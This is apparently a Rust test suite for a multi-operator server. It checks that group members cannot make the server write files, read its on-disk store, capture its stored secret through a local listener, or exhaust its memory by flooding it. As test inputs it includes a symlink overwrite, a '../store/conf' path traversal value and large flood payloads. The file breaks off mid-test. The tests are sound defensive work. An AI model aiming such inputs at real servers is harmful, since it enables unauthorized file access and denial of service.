//! Several operators are not one trust domain (issue 11): each attack a group member could
//! make on the server is shown failing here, with real Unix users where that is the point.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::Path;
use std::time::Duration;

use shukka::backend::Backend;
use shukka::domain::*;
use shukka::server::{self, ServeOptions};
use shukka::service::{ErrorKind, Request};
use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};

use crate::common::*;
use crate::unix_users::*;

/// A data directory with the guide applied and orders fetched, served in this process (as
/// root, the owner) to `users.group`, with `users.admin_group` as admins.
async fn served_to(
    users: &Users,
    orders: usize,
) -> (shukka::sim::SimHandle, tempfile::TempDir, server::Server) {
    let sim = start_sim(orders, 100).await;
    let (engine, dir) = engine_with_setup(&sim).await;
    run(&engine, range_robot(&engine)).await;
    drop(engine);
    tokio::time::sleep(Duration::from_millis(50)).await;
    let srv = start_with(
        dir.path(),
        ServeOptions {
            group: Some(users.group.clone()),
            admin_group: Some(users.admin_group.clone()),
            ..Default::default()
        },
    )
    .await;
    (sim, dir, srv)
}

async fn start_with(dir: &Path, opts: ServeOptions) -> server::Server {
    for _ in 0..50 {
        match server::start(dir, opts.clone()).await {
            Ok(s) => return s,
            Err(server::ServeError::Store(shukka::store::StoreError::Locked(_))) => {
                tokio::time::sleep(Duration::from_millis(100)).await
            }
            Err(e) => panic!("server: {e}"),
        }
    }
    panic!("store stayed locked")
}

/// Runs a blocking command (as another user) without stalling the server in this process.
async fn blocking<T: Send + 'static>(f: impl FnOnce() -> T + Send + 'static) -> T {
    tokio::task::spawn_blocking(f).await.expect("task")
}

fn d(dir: &tempfile::TempDir) -> std::path::PathBuf {
    dir.path().to_path_buf()
}

// ---------------------------------------------------------------------------------------------
// 1. The server never writes files for its clients

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_group_member_cannot_make_the_server_write_files() {
    let Some(users) = Users::create("a_group_member_cannot_make_the_server_write_files") else {
        return;
    };
    let (_sim, dir, srv) = served_to(&users, 20).await;
    let op2 = users.op2.clone();
    let data = d(&dir);

    // A directory only the server's user (root) may write: a backup there must not appear.
    let forbidden = tempfile::Builder::new()
        .prefix("shukka-owner-only-")
        .tempdir()
        .expect("tmp");
    let target = forbidden.path().join("bashrc");
    let (o, t) = (op2.clone(), target.clone());
    let dd = data.clone();
    let out = blocking(move || shukka_as(&o, &dd, &["backup", t.to_str().expect("utf-8")])).await;
    assert!(!out.status.success(), "{}", stdout(&out));
    assert!(
        stderr(&out).contains("Permission denied") || stderr(&out).contains("cannot write"),
        "says why: {}",
        stderr(&out)
    );
    assert!(!target.exists(), "nothing was written as the server's user");

    // The store's own files: refused, and the store is untouched.
    let conf = data.join("store/conf");
    let conf_before = std::fs::read(&conf).expect("conf");
    let (o, dd, c) = (op2.clone(), data.clone(), conf.clone());
    let out =
        blocking(move || shukka_as(&o, &dd, &["backup", c.to_str().expect("utf-8"), "--force"]))
            .await;
    assert!(!out.status.success());
    assert_eq!(std::fs::read(&conf).expect("conf"), conf_before);

    // --include-secrets is for the server's own user only.
    let mine = op2.home.join("b.json");
    let (o, dd, m) = (op2.clone(), data.clone(), mine.clone());
    let out = blocking(move || {
        shukka_as(
            &o,
            &dd,
            &["backup", m.to_str().expect("utf-8"), "--include-secrets"],
        )
    })
    .await;
    assert!(!out.status.success(), "{}", stdout(&out));
    assert!(
        stderr(&out).contains("サーバーを動かしているユーザーだけ"),
        "{}",
        stderr(&out)
    );
    assert!(!mine.exists(), "no file, so no secret in it");

    // A plain backup works: written by op2's own process, owned by op2, owner-only, audited.
    let (o, dd, m) = (op2.clone(), data.clone(), mine.clone());
    let out = blocking(move || shukka_as(&o, &dd, &["backup", m.to_str().expect("utf-8")])).await;
    assert!(out.status.success(), "{}", stderr(&out));
    let meta = std::fs::metadata(&mine).expect("written");
    assert_eq!(meta.uid(), op2.uid, "the client's own user wrote it");
    assert_eq!(meta.permissions().mode() & 0o777, 0o600);
    let text = std::fs::read_to_string(&mine).expect("read");
    assert!(text.starts_with("{\"format\":\"shukka-backup\""));
    assert!(!text.contains("demo-secret"));
    // Without --force an existing file is kept, and a symlink is never followed.
    let victim = op2.home.join("victim");
    std::fs::write(&victim, "precious").expect("victim");
    nix::unistd::chown(&victim, Some(op2.uid.into()), None).expect("chown");
    let link = op2.home.join("link.json");
    std::os::unix::fs::symlink(&victim, &link).expect("symlink");
    let (o, dd, l) = (op2.clone(), data.clone(), link.clone());
    let out = blocking(move || shukka_as(&o, &dd, &["backup", l.to_str().expect("utf-8")])).await;
    assert!(!out.status.success());
    assert!(stderr(&out).contains("--force"), "{}", stderr(&out));
    let (o, dd, l) = (op2.clone(), data.clone(), link.clone());
    let out =
        blocking(move || shukka_as(&o, &dd, &["backup", l.to_str().expect("utf-8"), "--force"]))
            .await;
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_to_string(&victim).expect("victim"),
        "precious"
    );

    // Restore is the server's user's only, and travels as data.
    let (o, dd, m) = (op2.clone(), data.clone(), mine.clone());
    let out =
        blocking(move || shukka_as(&o, &dd, &["restore", m.to_str().expect("utf-8"), "--force"]))
            .await;
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("サーバーを動かしているユーザーだけ"),
        "{}",
        stderr(&out)
    );

    let audit = srv.engine.store().audit(50).expect("audit");
    let backups: Vec<&AuditEntry> = audit
        .iter()
        .filter(|a| a.action == "バックアップ")
        .collect();
    assert_eq!(backups.len(), 2, "two successful backups, each audited");
    assert!(
        backups
            .iter()
            .all(|a| a.actor == Actor::Operator(op2.name.clone()))
    );
    srv.shutdown().await;
}

/// The owner's restore through the running server: data from the client, audited.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn the_owner_restores_through_the_running_server() {
    let sim = start_sim(15, 100).await;
    let (engine, dir) = engine_with_setup(&sim).await;
    run(&engine, range_robot(&engine)).await;
    let before = engine.store().summaries(None).expect("summaries");
    drop(engine);
    tokio::time::sleep(Duration::from_millis(50)).await;
    let srv = start_with(dir.path(), ServeOptions::default()).await;
    let out_dir = tempfile::tempdir().expect("tmp");
    let file = out_dir.path().join("b.jsonl");
    let bin = env!("CARGO_BIN_EXE_shukka");
    let run_cli = |args: Vec<String>| {
        let dd = dir.path().to_path_buf();
        async move {
            tokio::process::Command::new(bin)
                .arg("--data-dir")
                .arg(dd)
                .args(args)
                .output()
                .await
                .expect("runs")
        }
    };
    let f = file.to_string_lossy().to_string();
    let out = run_cli(vec!["backup".into(), f.clone(), "--include-secrets".into()]).await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Something changes, then the restore brings the backup's state back.
    let one = before
        .iter()
        .find(|s| s.status == Status::Ready)
        .expect("ready");
    srv.engine
        .hold(one.id, None, "あとで", &operator())
        .expect("hold");
    let out = run_cli(vec!["restore".into(), f, "--force".into()]).await;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let after = srv.engine.store().summaries(None).expect("summaries");
    assert_eq!(after, before);
    assert_eq!(
        srv.engine
            .store()
            .secret(1)
            .expect("secret")
            .map(|s| s.expose().to_string())
            .as_deref(),
        Some("demo-secret")
    );
    let last = &srv.engine.store().audit(1).expect("audit")[0];
    assert_eq!(last.action, "復元");
    srv.shutdown().await;
}

// ---------------------------------------------------------------------------------------------
// 2. The store on disk

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_group_member_cannot_read_the_store_on_disk() {
    let Some(users) = Users::create("a_group_member_cannot_read_the_store_on_disk") else {
        return;
    };
    let (_sim, dir, srv) = served_to(&users, 20).await;
    srv.engine.store().flush().expect("flush");
    let data = d(&dir);
    // Every file of the store owner-only, every directory 0700, in the running server.
    fn walk(p: &Path, bad: &mut Vec<String>) {
        for e in std::fs::read_dir(p).expect("ls").flatten() {
            let meta = e.metadata().expect("meta");
            let mode = meta.permissions().mode() & 0o777;
            if meta.is_dir() {
                if mode != 0o700 {
                    bad.push(format!("{} {mode:o}", e.path().display()));
                }
                walk(&e.path(), bad);
            } else if mode != 0o600 {
                bad.push(format!("{} {mode:o}", e.path().display()));
            }
        }
    }
    let mut bad = Vec::new();
    assert_eq!(
        std::fs::metadata(data.join("store"))
            .expect("store")
            .permissions()
            .mode()
            & 0o777,
        0o700
    );
    walk(&data.join("store"), &mut bad);
    for e in std::fs::read_dir(&data).expect("ls").flatten() {
        let meta = e.metadata().expect("meta");
        if meta.is_file() && meta.permissions().mode() & 0o077 != 0 {
            bad.push(format!(
                "{} {:o}",
                e.path().display(),
                meta.permissions().mode()
            ));
        }
    }
    assert!(bad.is_empty(), "readable by others: {bad:?}");
    // op2 cannot read the store's files by their path.
    let db = data.join("store/db");
    let out = blocking(move || {
        as_user(
            &users.op2,
            Path::new("/bin/cat"),
            &[db.to_str().expect("utf-8")],
        )
    })
    .await;
    assert!(!out.status.success(), "cat succeeded");
    assert!(
        stderr(&out).contains("Permission denied"),
        "{}",
        stderr(&out)
    );
    // The secret is sealed: no file of the data directory holds it in the clear.
    fn grep(p: &Path, needle: &[u8], hits: &mut Vec<String>) {
        for e in std::fs::read_dir(p).expect("ls").flatten() {
            let path = e.path();
            if path.is_dir() {
                grep(&path, needle, hits);
            } else if let Ok(bytes) = std::fs::read(&path)
                && bytes.windows(needle.len()).any(|w| w == needle)
            {
                hits.push(path.display().to_string());
            }
        }
    }
    let mut hits = Vec::new();
    grep(&data, b"demo-secret", &mut hits);
    assert!(hits.is_empty(), "the secret in the clear in {hits:?}");
    let key = data.join("secret.key");
    assert_eq!(
        std::fs::metadata(&key).expect("key").permissions().mode() & 0o777,
        0o600
    );
    assert_eq!(
        srv.engine
            .store()
            .secret(1)
            .expect("secret")
            .map(|s| s.expose().to_string())
            .as_deref(),
        Some("demo-secret"),
        "and it still opens with the key"
    );
    srv.shutdown().await;
}

/// A store written by an older build (secret in the clear, sled's 0644 files) is mended on
/// open; a copy of the store without the key carries no usable secret.
#[tokio::test]
async fn an_old_store_is_mended_on_open_and_a_copy_without_the_key_has_no_secret() {
    let sim = start_sim(5, 100).await;
    let (engine, dir) = engine_with_setup(&sim).await;
    drop(engine);
    tokio::time::sleep(Duration::from_millis(50)).await;
    // What an older build left: wide modes.
    for e in std::fs::read_dir(dir.path().join("store"))
        .expect("ls")
        .flatten()
    {
        let mode = if e.path().is_dir() { 0o755 } else { 0o644 };
        std::fs::set_permissions(e.path(), std::fs::Permissions::from_mode(mode)).expect("chmod");
    }
    std::fs::set_permissions(
        dir.path().join("store"),
        std::fs::Permissions::from_mode(0o755),
    )
    .expect("chmod");
    let store = shukka::store::Store::open(dir.path()).expect("reopens");
    for e in std::fs::read_dir(dir.path().join("store"))
        .expect("ls")
        .flatten()
    {
        let mode = e.metadata().expect("meta").permissions().mode() & 0o777;
        assert!(
            mode == 0o600 || mode == 0o700,
            "{} {mode:o}",
            e.path().display()
        );
    }
    assert_eq!(
        store
            .secret(1)
            .expect("secret")
            .map(|s| s.expose().to_string())
            .as_deref(),
        Some("demo-secret")
    );
    drop(store);
    tokio::time::sleep(Duration::from_millis(50)).await;
    // A copy of the store without secret.key.
    let copy = tempfile::tempdir().expect("tmp");
    let status = std::process::Command::new("cp")
        .arg("-a")
        .arg(dir.path().join("store"))
        .arg(copy.path())
        .status()
        .expect("cp");
    assert!(status.success());
    let copied = shukka::store::Store::open(copy.path()).expect("the copy opens");
    let err = copied.secret(1).expect_err("no key, no secret");
    assert!(err.to_string().contains("enter the secret again"), "{err}");
    let e = shukka::engine::Engine::new(copied).expect("engine");
    let refused = e.client(1).expect_err("no client without the secret");
    assert!(refused.to_string().contains("secret.key"), "{refused}");
}

// ---------------------------------------------------------------------------------------------
// 3. Where the secret goes

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_new_endpoint_never_receives_the_stored_secret() {
    let sim = start_sim(0, 100).await;
    let (engine, _dir) = engine_with_setup(&sim).await;
    // A listener of the attacker's.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
        .await
        .expect("bind");
    let addr = listener.local_addr().expect("addr");
    let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::<u8>::new()));
    let r = received.clone();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            let r = r.clone();
            tokio::spawn(async move {
                let mut buf = vec![0u8; 65536];
                use tokio::io::AsyncReadExt;
                while let Ok(n) = s.read(&mut buf).await {
                    if n == 0 {
                        break;
                    }
                    r.lock()
                        .unwrap_or_else(|e| e.into_inner())
                        .extend_from_slice(&buf[..n]);
                }
            });
        }
    });
    let mut auth = engine.store().auth(1).expect("auth").expect("exists");
    let old_endpoint = auth.endpoint.clone();
    auth.endpoint = format!("http://{addr}");
    let saved = engine.save_auth(auth, None, &operator()).expect("saved");
    assert!(
        !saved.has_secret,
        "the secret did not follow the new endpoint"
    );
    assert!(engine.store().secret(1).expect("secret").is_none());
    let test = engine
        .test_connection(1, &operator())
        .await
        .expect("test runs");
    assert!(!test.ok);
    assert!(test.message.contains("シークレット"), "{}", test.message);
    tokio::time::sleep(Duration::from_millis(200)).await;
    let got = received.lock().unwrap_or_else(|e| e.into_inner()).clone();
    let encoded = base64::Engine::encode(
        &base64::engine::general_purpose::STANDARD,
        "demo-client:demo-secret",
    );
    let text = String::from_utf8_lossy(&got);
    assert!(
        !text.contains("demo-secret") && !text.contains(&encoded),
        "sent: {text}"
    );
    // The audit names where it was and where it goes now.
    let audit = engine.store().audit(5).expect("audit");
    let entry = audit
        .iter()
        .find(|a| a.action == "保存")
        .expect("the save is audited");
    assert!(
        entry.reason.contains(&old_endpoint) && entry.reason.contains(&addr.to_string()),
        "{}",
        entry.reason
    );
    assert!(
        entry.reason.contains("シークレットを削除"),
        "{}",
        entry.reason
    );
    // The same for the shop key and the client ID.
    let mut auth = engine.store().auth(1).expect("auth").expect("exists");
    auth.endpoint = old_endpoint;
    engine
        .save_auth(
            auth.clone(),
            Some(shukka::secret::Secret::new("demo-secret")),
            &operator(),
        )
        .expect("secret entered again");
    assert!(engine.store().secret(1).expect("secret").is_some());
    auth.client_id = "someone-else".into();
    let saved = engine.save_auth(auth, None, &operator()).expect("saved");
    assert!(!saved.has_secret);
    assert!(engine.store().secret(1).expect("secret").is_none());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn operators_work_the_queues_and_only_admins_change_the_setup() {
    let Some(users) = Users::create("operators_work_the_queues_and_only_admins_change_the_setup")
    else {
        return;
    };
    let (_sim, dir, srv) = served_to(&users, 20).await;
    let data = d(&dir);
    let ready = srv
        .engine
        .store()
        .summaries(Some(Status::Ready))
        .expect("ready")[0]
        .clone();
    let cases: Vec<(Vec<String>, bool, bool)> = vec![
        // (args, operator may, admin may)
        (
            vec![
                "hold".into(),
                ready.order_no.clone(),
                "--reason".into(),
                "住所確認".into(),
            ],
            true,
            true,
        ),
        (vec!["release".into(), ready.order_no.clone()], true, true),
        (
            vec!["robots".into(), "disable".into(), "2".into()],
            true,
            true,
        ),
        (
            vec!["robots".into(), "enable".into(), "2".into()],
            true,
            true,
        ),
        (
            vec!["orders".into(), "--format".into(), "json".into()],
            true,
            true,
        ),
        (
            vec![
                "robots".into(),
                "rename".into(),
                "18026".into(),
                "別名".into(),
            ],
            false,
            true,
        ),
        (
            vec![
                "robots".into(),
                "trigger".into(),
                "18027".into(),
                "15m".into(),
            ],
            false,
            true,
        ),
        (
            vec![
                "robots".into(),
                "order".into(),
                "1".into(),
                "2".into(),
                "3".into(),
                "4".into(),
                "5".into(),
                "6".into(),
                "7".into(),
            ],
            false,
            true,
        ),
        // The archive (issue 16): reading it and counting what would move are operators'
        // work; moving instructions out of the queues is an administrator's.
        (vec!["archive".into(), "list".into()], true, true),
        (
            vec!["archive".into(), "search".into(), ready.order_no.clone()],
            true,
            true,
        ),
        (
            vec![
                "archive".into(),
                "run".into(),
                "--older-than".into(),
                "0".into(),
                "--dry-run".into(),
            ],
            true,
            true,
        ),
        (
            vec![
                "archive".into(),
                "run".into(),
                "--older-than".into(),
                "0".into(),
            ],
            false,
            true,
        ),
    ];
    for who in [&users.op2, &users.admin] {
        for (args, operator_may, admin_may) in &cases {
            let may = if who.name == users.op2.name {
                *operator_may
            } else {
                *admin_may
            };
            let (u, dd, a) = (who.clone(), data.clone(), args.clone());
            let out = blocking(move || {
                let refs: Vec<&str> = a.iter().map(String::as_str).collect();
                shukka_as(&u, &dd, &refs)
            })
            .await;
            assert_eq!(
                out.status.success(),
                may,
                "{} {args:?}: {} {}",
                who.name,
                stdout(&out),
                stderr(&out)
            );
            if !may {
                assert!(
                    stderr(&out).contains("管理者"),
                    "says who may: {}",
                    stderr(&out)
                );
            }
        }
    }
    // The setup file too (API認証設定 with a new endpoint and secret).
    let setup = users.op2.home.join("shop.toml");
    std::fs::write(&setup, "[ship_from]\nname = \"x\"\n").expect("write");
    nix::unistd::chown(&setup, Some(users.op2.uid.into()), None).expect("chown");
    let (u, dd, s) = (users.op2.clone(), data.clone(), setup.clone());
    let out =
        blocking(move || shukka_as(&u, &dd, &["setup", "apply", s.to_str().expect("utf-8")])).await;
    assert!(!out.status.success());
    // op3 is in no group: not even a connection.
    let (u, dd) = (users.op3.clone(), data.clone());
    let out = blocking(move || shukka_as(&u, &dd, &["orders"])).await;
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("may not connect"),
        "says why: {}",
        stderr(&out)
    );
    // An archive month is looked up among the archive's files, never made into a path the
    // server would open for a client.
    let (u, dd) = (users.op2.clone(), data.clone());
    let out = blocking(move || shukka_as(&u, &dd, &["archive", "list", "../store/conf"])).await;
    assert!(!out.status.success(), "{}", stdout(&out));
    assert!(
        stderr(&out).contains("shukka archive list"),
        "{}",
        stderr(&out)
    );
    // Who did what is in the audit log under their own names.
    let audit = srv.engine.store().audit(100).expect("audit");
    assert!(
        audit
            .iter()
            .any(|a| a.action == "保留" && a.actor == Actor::Operator(users.op2.name.clone()))
    );
    assert!(
        audit
            .iter()
            .any(|a| a.actor == Actor::Operator(users.admin.name.clone()))
    );
    srv.shutdown().await;
}

// ---------------------------------------------------------------------------------------------
// 5. The group belongs to the data directory

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_server_started_later_keeps_the_group_and_refusals_say_why() {
    let Some(users) = Users::create("a_server_started_later_keeps_the_group_and_refusals_say_why")
    else {
        return;
    };
    let dir = tempfile::tempdir().expect("tmp");
    let data = d(&dir);
    let serve = |args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_shukka"))
            .arg("--data-dir")
            .arg(&data)
            .arg("serve")
            .args(args)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("serve")
    };
    let wait_up = || async {
        for _ in 0..200 {
            if shukka::server::client::RemoteClient::connect(
                &server::socket_path(&data),
                false,
                false,
            )
            .await
            .is_ok()
            {
                return;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        panic!("server did not come up");
    };
    let stop = |mut c: std::process::Child| {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(c.id() as i32),
            nix::sys::signal::Signal::SIGTERM,
        );
        c.wait().expect("wait")
    };
    let first = serve(&["--group", &users.group]);
    wait_up().await;
    assert!(stop(first).success());
    let stored = std::fs::read_to_string(data.join("serve.toml")).expect("serve.toml");
    assert!(stored.contains(&users.group), "{stored}");
    // No server now: op2 is told who can start one (not "reconnecting…" forever).
    let (u, dd) = (users.op2.clone(), data.clone());
    let out = blocking(move || shukka_as(&u, &dd, &["orders"])).await;
    assert!(!out.status.success());
    assert!(stderr(&out).contains("only its owner"), "{}", stderr(&out));
    // The owner's next server (as a console would start it: `serve` without flags) keeps the group.
    let second = serve(&[]);
    wait_up().await;
    let sock = std::fs::metadata(server::socket_path(&data)).expect("socket");
    assert_eq!(sock.permissions().mode() & 0o777, 0o660);
    let gid = nix::unistd::Group::from_name(&users.group)
        .expect("g")
        .expect("g")
        .gid;
    assert_eq!(sock.gid(), gid.as_raw());
    let (u, dd) = (users.op2.clone(), data.clone());
    let out = blocking(move || shukka_as(&u, &dd, &["orders"])).await;
    assert!(
        out.status.success(),
        "op2 works with the restarted server: {}",
        stderr(&out)
    );
    let (u, dd) = (users.op3.clone(), data.clone());
    let out = blocking(move || shukka_as(&u, &dd, &["orders"])).await;
    assert!(!out.status.success());
    assert!(
        stderr(&out).contains("may not connect") && stderr(&out).contains(&users.group),
        "{}",
        stderr(&out)
    );
    assert!(stop(second).success());
    // The server logged the connections, with user and pid, in DATA/shukka.log.
    let log = std::fs::read_to_string(data.join("shukka.log")).expect("log");
    assert!(log.contains("client connected"), "{log}");
    assert!(log.contains(&users.op2.name), "{log}");
    assert!(log.contains("pid="), "{log}");
    // (op3 never reached the server: the socket's mode refused it in the kernel.)
    let log_meta = std::fs::metadata(data.join("shukka.log")).expect("log");
    assert_eq!(log_meta.permissions().mode() & 0o077, 0, "owner-only log");
}

// ---------------------------------------------------------------------------------------------
// 4. Memory: nothing a client sends makes the server grow without bound

fn rss_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmRSS:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .unwrap_or(0)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn huge_lines_and_unread_pipelined_calls_do_not_grow_the_server() {
    let sim = start_sim(50, 100).await;
    let (engine, dir) = engine_with_setup(&sim).await;
    run(&engine, range_robot(&engine)).await;
    drop(engine);
    tokio::time::sleep(Duration::from_millis(50)).await;
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_shukka"))
        .arg("--data-dir")
        .arg(dir.path())
        .arg("serve")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("serve");
    let path = server::socket_path(dir.path());
    for _ in 0..200 {
        if shukka::server::client::RemoteClient::connect(&path, false, false)
            .await
            .is_ok()
        {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let pid = child.id();
    let hello = format!(
        "{{\"t\":\"hello\",\"protocol\":{},\"version\":\"t\"}}\n",
        shukka::server::protocol::PROTOCOL
    );
    let start_rss = rss_kib(pid);
    // Two clients sending 100 MB without a newline.
    let mut peak = start_rss;
    let mut senders = Vec::new();
    for _ in 0..2 {
        let path = path.clone();
        let hello = hello.clone();
        senders.push(tokio::spawn(async move {
            let mut s = tokio::net::UnixStream::connect(&path)
                .await
                .expect("connect");
            s.write_all(hello.as_bytes()).await.expect("hello");
            let chunk = vec![b'a'; 1024 * 1024];
            let mut sent = 0usize;
            for _ in 0..100 {
                match s.write_all(&chunk).await {
                    Ok(()) => sent += chunk.len(),
                    Err(_) => break,
                }
            }
            sent
        }));
    }
    let mut sent = Vec::new();
    for s in senders {
        while !s.is_finished() {
            peak = peak.max(rss_kib(pid));
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
        sent.push(s.await.expect("sender"));
    }
    peak = peak.max(rss_kib(pid));
    assert!(
        sent.iter().all(|n| *n < 100 * 1024 * 1024),
        "the server closed each connection before 100 MB: {sent:?}"
    );
    // 5,000 pipelined calls whose replies are never read.
    let mut s = tokio::net::UnixStream::connect(&path)
        .await
        .expect("connect");
    s.write_all(hello.as_bytes()).await.expect("hello");
    let mut batch = String::new();
    for id in 0..5_000u64 {
        batch.push_str(&format!(
            "{{\"t\":\"call\",\"id\":{id},\"req\":{{\"op\":\"summaries\",\"status\":null}}}}\n"
        ));
    }
    let writer = tokio::spawn(async move {
        let _ = tokio::time::timeout(Duration::from_secs(20), s.write_all(batch.as_bytes())).await;
        s
    });
    for _ in 0..100 {
        peak = peak.max(rss_kib(pid));
        tokio::time::sleep(Duration::from_millis(30)).await;
    }
    let held = writer.await.expect("writer");
    peak = peak.max(rss_kib(pid));
    eprintln!(
        "server RSS: {} MiB at start, {} MiB peak under two 100 MB lines and 5,000 unread pipelined calls",
        start_rss / 1024,
        peak / 1024
    );
    assert!(
        peak < start_rss + 100 * 1024,
        "RSS grew from {start_rss} KiB to {peak} KiB"
    );
    // The server still serves others.
    let other = shukka::server::client::RemoteClient::connect(&path, false, false)
        .await
        .expect("still serving");
    let counts: shukka::store::Counts = Backend::Remote(other)
        .get(Request::Counts)
        .await
        .expect("counts");
    assert!(counts.instructions() > 0);
    drop(held);
    let _ = child.kill();
    let _ = child.wait();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_client_that_stops_reading_is_dropped_and_connections_are_bounded() {
    let sim = start_sim(10, 100).await;
    let (engine, dir) = engine_with_setup(&sim).await;
    run(&engine, range_robot(&engine)).await;
    drop(engine);
    tokio::time::sleep(Duration::from_millis(50)).await;
    let srv = start_with(
        dir.path(),
        ServeOptions {
            limits: shukka::server::Limits {
                per_user: 3,
                slow_client: Duration::from_millis(500),
                ..Default::default()
            },
            ..Default::default()
        },
    )
    .await;
    let path = server::socket_path(dir.path());
    let hello = format!(
        "{{\"t\":\"hello\",\"protocol\":{},\"version\":\"t\"}}\n",
        shukka::server::protocol::PROTOCOL
    );
    // A client that pipelines big answers and never reads is disconnected.
    let mut s = tokio::net::UnixStream::connect(&path)
        .await
        .expect("connect");
    s.write_all(hello.as_bytes()).await.expect("hello");
    let mut batch = String::new();
    for id in 0..2_000u64 {
        batch.push_str(&format!(
            "{{\"t\":\"call\",\"id\":{id},\"req\":{{\"op\":\"robots\"}}}}\n"
        ));
    }
    let _ = tokio::time::timeout(Duration::from_secs(3), s.write_all(batch.as_bytes())).await;
    tokio::time::sleep(Duration::from_secs(2)).await;
    // Its connection is closed: reading ends (after what was already in the socket buffer).
    let (r, _w) = s.into_split();
    let mut lines = BufReader::new(r).lines();
    let mut n = 0;
    let closed = tokio::time::timeout(Duration::from_secs(10), async {
        while let Ok(Some(_)) = lines.next_line().await {
            n += 1;
        }
    })
    .await;
    assert!(closed.is_ok(), "the slow client was dropped");
    assert!(n < 2_000, "not every answer was buffered for it ({n})");
    // At most 3 connections of one user at once.
    let mut keep = Vec::new();
    for _ in 0..3 {
        keep.push(
            shukka::server::client::RemoteClient::connect(&path, false, false)
                .await
                .expect("within the limit"),
        );
    }
    match shukka::server::client::RemoteClient::connect(&path, false, false).await {
        Err(shukka::server::client::ConnectError::Refused(m)) => {
            assert!(m.contains("too many connections"), "{m}")
        }
        Err(e) => panic!("{e}"),
        Ok(_) => panic!("a fourth connection was accepted"),
    }
    for c in &keep {
        c.close().await;
    }
    drop(keep);
    tokio::time::sleep(Duration::from_millis(200)).await;
    shukka::server::client::RemoteClient::connect(&path, false, false)
        .await
        .expect("a place is free again");
    srv.shutdown().await;
}

// ---------------------------------------------------------------------------------------------
// 8. Every call gets an answer; changes of one connection in order

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn malformed_calls_are_answered_and_changes_apply_in_order() {
    let sim = start_sim(10, 100).await;
    let (engine, dir) = engine_with_setup(&sim).await;
    run(&engine, range_robot(&engine)).await;
    let target = engine
        .store()
        .summaries(Some(Status::Ready))
        .expect("ready")[0]
        .clone();
    drop(engine);
    tokio::time::sleep(Duration::from_millis(50)).await;
    let srv = start_with(dir.path(), ServeOptions::default()).await;
    let stream = tokio::net::UnixStream::connect(server::socket_path(dir.path()))
        .await
        .expect("connect");
    let (r, mut w) = stream.into_split();
    let mut lines = BufReader::new(r).lines();
    w.write_all(
        format!(
            "{{\"t\":\"hello\",\"protocol\":{},\"version\":\"t\"}}\n",
            shukka::server::protocol::PROTOCOL
        )
        .as_bytes(),
    )
    .await
    .expect("hello");
    lines.next_line().await.expect("read").expect("welcome");
    w.write_all(b"{\"t\":\"call\",\"id\":5,\"req\":{\"op\":\"no_such_op\"}}\n")
        .await
        .expect("write");
    w.write_all(b"{\"t\":\"call\",\"id\":6,\"req\":{\"op\":\"hold\",\"id\":\"x\"}}\n")
        .await
        .expect("write");
    let mut got = std::collections::BTreeMap::new();
    for _ in 0..2 {
        let line = tokio::time::timeout(Duration::from_secs(5), lines.next_line())
            .await
            .expect("an answer, not a hang")
            .expect("read")
            .expect("line");
        let v: serde_json::Value = serde_json::from_str(&line).expect("json");
        got.insert(v["id"].as_u64().expect("id"), v);
    }
    for id in [5, 6] {
        assert_eq!(got[&id]["err"]["kind"], "Refused", "{:?}", got[&id]);
        assert!(
            got[&id]["err"]["message"]
                .as_str()
                .expect("m")
                .contains("malformed request")
        );
    }
    // 40 holds and releases of one instruction, pipelined: each applies after the one before.
    let mut batch = String::new();
    for n in 0..40u64 {
        let req = if n % 2 == 0 {
            serde_json::json!({"op": "hold", "id": target.id, "version": null, "reason": format!("r{n}")})
        } else {
            serde_json::json!({"op": "release", "id": target.id, "version": null})
        };
        batch.push_str(&format!(
            "{}\n",
            serde_json::json!({"t": "call", "id": 100 + n, "req": req})
        ));
    }
    w.write_all(batch.as_bytes()).await.expect("write");
    let mut ok = 0;
    for _ in 0..40 {
        let line = lines.next_line().await.expect("read").expect("line");
        let v: serde_json::Value = serde_json::from_str(&line).expect("json");
        if v.get("ok").is_some() {
            ok += 1;
        } else {
            panic!("out of order: {v}");
        }
    }
    assert_eq!(ok, 40);
    let i = srv
        .engine
        .store()
        .instruction(target.id)
        .expect("get")
        .expect("exists");
    assert_eq!(i.status, Status::Ready, "the last one was a release");
    assert_eq!(i.version, target.version + 40);
    srv.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_save_then_a_connection_test_on_one_connection_tests_what_was_saved() {
    let sim = start_sim(0, 100).await;
    let other = start_sim(0, 100).await;
    let (engine, dir) = engine_with_setup(&sim).await;
    drop(engine);
    tokio::time::sleep(Duration::from_millis(50)).await;
